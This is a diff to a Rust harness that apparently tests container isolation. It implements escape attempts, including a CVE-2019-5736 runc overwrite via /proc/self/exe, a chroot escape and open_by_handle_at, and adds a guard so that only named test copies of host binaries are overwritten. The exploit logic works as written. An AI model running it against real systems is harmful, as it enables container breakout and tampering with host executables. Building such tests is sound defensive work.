@@ -22,10 +22,12 @@
 //! * `cwd HOSTPATH TOKEN`: HOSTPATH read from the working directory and from `..` above it;
 //! * `chroot HOSTPATH TOKEN`: the classic escape (chroot into a subdirectory, `chdir("..")`
 //!   64 times, `chroot(".")`), then HOSTPATH read and `HOSTPATH.chroot-escaped` written;
-//! * `selfexe VICTIM SECONDS`: CVE-2019-5736: VICTIM becomes `#!/proc/self/exe`; every process
-//!   that appears running a file that is not the container's is opened (`/proc/PID/exe`,
-//!   `O_PATH`), stopped, and its file reopened for writing through `/proc/self/fd/N` until that
-//!   works, all targets are settled, or SECONDS pass;
+//! * `selfexe VICTIM SECONDS [NAME...]`: CVE-2019-5736: VICTIM becomes `#!/proc/self/exe`;
+//!   every process that appears running a file that is not the container's is opened
+//!   (`/proc/PID/exe`, `O_PATH`), stopped, and its file reopened for writing through
+//!   `/proc/self/fd/N` until that works, all targets are settled, or SECONDS pass.  Only a file
+//!   named NAME (the test's private copy of a tool) is then overwritten; any other host file
+//!   that opens for writing is reported and left as it is;
 //! * `keyread DESC TOKEN`, `keyadd DESC`: a `user` key DESC searched in the session keyring and
 //!   read, or added to it;
 //! * `shocker PATH TYPE HEX TOKEN`: `open_by_handle_at` with a handle made on the host, relative
@@ -367,6 +369,23 @@ fn fd_id(fd: i32) -> Option<(u64, u64)> {
     Some((st.st_dev, st.st_ino))
 }
 
+/// Whether the host file `exe` (as `/proc/PID/exe` shows it) is one the caller named.
+fn may_write(exe: &str, names: &[String]) -> bool {
+    let path = exe.split(" [").next().unwrap_or(exe);
+    let base = path.rsplit('/').next().unwrap_or(path);
+    names.iter().any(|n| n == base)
+}
+
+/// Whether this root is an overlay file system.
+fn root_is_overlay() -> bool {
+    const OVERLAYFS_SUPER_MAGIC: i64 = 0x794c_7630;
+    let root = cstr("/");
+    // SAFETY: zeroed statfs is a valid out-buffer.
+    let mut st: libc::statfs = unsafe { std::mem::zeroed() };
+    // SAFETY: a valid C string and out-buffer.
+    unsafe { libc::statfs(root.as_ptr(), &raw mut st) == 0 && st.f_type == OVERLAYFS_SUPER_MAGIC }
+}
+
 struct Target {
     pid: i32,
     fd: i32,
@@ -379,6 +398,9 @@ struct Target {
 fn attack_selfexe(args: &[String]) -> Outcome {
     let victim = arg(args, 0, "selfexe")?;
     let secs: u64 = arg(args, 1, "selfexe")?.parse().unwrap_or(30);
+    // the programs whose host file may be overwritten (the test's private copies); any other
+    // host file that opens for writing is reported and left unwritten
+    let overwrite = args.get(2..).unwrap_or(&[]);
     let _ = std::fs::remove_file(victim);
     std::fs::write(victim, "#!/proc/self/exe\n").map_err(|e| {
         (
@@ -400,6 +422,10 @@ fn attack_selfexe(args: &[String]) -> Outcome {
     let mut seen: Vec<i32> = Vec::new();
     let mut targets: Vec<Target> = Vec::new();
     let mut first_pass = true;
+    // (only for an overlay root: a plain directory root shares its device with the host's files)
+    let root_dev = root_is_overlay()
+        .then(|| std::fs::metadata("/").ok().map(|m| m.dev()))
+        .flatten();
     while start.elapsed() < Duration::from_secs(secs) {
         if let Ok(rd) = std::fs::read_dir("/proc") {
             for e in rd.filter_map(Result::ok) {
@@ -418,10 +444,15 @@ fn attack_selfexe(args: &[String]) -> Outcome {
                     .map(|l| l.to_string_lossy().into_owned())
                     .unwrap_or_default();
                 seen.push(pid);
+                // A file of the container: the same inode at the same path here, or any file
+                // of the root's file system (an overlay reports its own device for its files,
+                // also for one the container has since replaced at that path).
+                let id = fd_id(fd);
                 let inside = std::fs::metadata(&link)
                     .ok()
                     .map(|m| (m.dev(), m.ino()))
-                    .is_some_and(|id| Some(id) == fd_id(fd));
+                    .is_some_and(|p| Some(p) == id)
+                    || id.is_some_and(|(dev, _)| Some(dev) == root_dev);
                 if inside {
                     close(fd);
                     continue;
@@ -435,7 +466,10 @@ fn attack_selfexe(args: &[String]) -> Outcome {
                 targets.push(Target {
                     pid,
                     fd,
-                    exe: link,
+                    exe: format!(
+                        "{link} [{}]",
+                        id.map_or(String::new(), |(d, i)| format!("dev {d} ino {i}"))
+                    ),
                     last: libc::ETXTBSY,
                     tries_after_exit: 0,
                     newcomer: !first_pass,
@@ -452,12 +486,21 @@ fn attack_selfexe(args: &[String]) -> Outcome {
                 t.tries_after_exit += 1;
             }
             match open(&format!("/proc/self/fd/{}", t.fd), libc::O_WRONLY) {
+                Ok(w) if !t.exe.starts_with("/memfd:") && !may_write(&t.exe, overwrite) => {
+                    // a host file opened for writing: proven, and left as it is
+                    close(w);
+                    return Ok(format!(
+                        "opened {} (pid {}) for writing (not written)",
+                        t.exe, t.pid
+                    ));
+                }
                 Ok(w) => {
                     // SAFETY: writing a constant buffer to our descriptor.
                     let n = unsafe { libc::write(w, payload.as_ptr().cast(), payload.len()) };
                     let we = errno();
                     close(w);
                     if n > 0 && !t.exe.starts_with("/memfd:") {
+                        // the container's own files are skipped above: this one is the host's
                         return Ok(format!("wrote {n} bytes over {} (pid {})", t.exe, t.pid));
                     }
                     t.last = if n > 0 { libc::EPERM } else { we };
